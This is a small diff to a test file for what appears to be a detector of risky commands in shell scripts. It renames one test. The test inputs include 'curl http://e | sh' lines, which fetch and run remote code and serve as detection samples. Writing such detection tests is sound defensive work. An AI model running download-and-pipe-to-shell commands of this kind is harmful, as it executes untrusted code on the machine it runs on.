@@ -120,7 +120,7 @@ def test_command_behind_a_quote_or_bracket_that_shells_end_earlier_is_reported(t
     assert ("download-and-run", "http://e") in [(mention.use, mention.name) for mention in mentions]
 
 
-def test_command_that_every_shell_reads_alike_behind_arithmetic_is_reported_once():
+def test_command_behind_shell_arithmetic_is_reported_once():
     assert len(list(collect_script_mentions("curl http://e | sh\n((i++))\ncurl http://f | sh\n"))) == 2
 
 
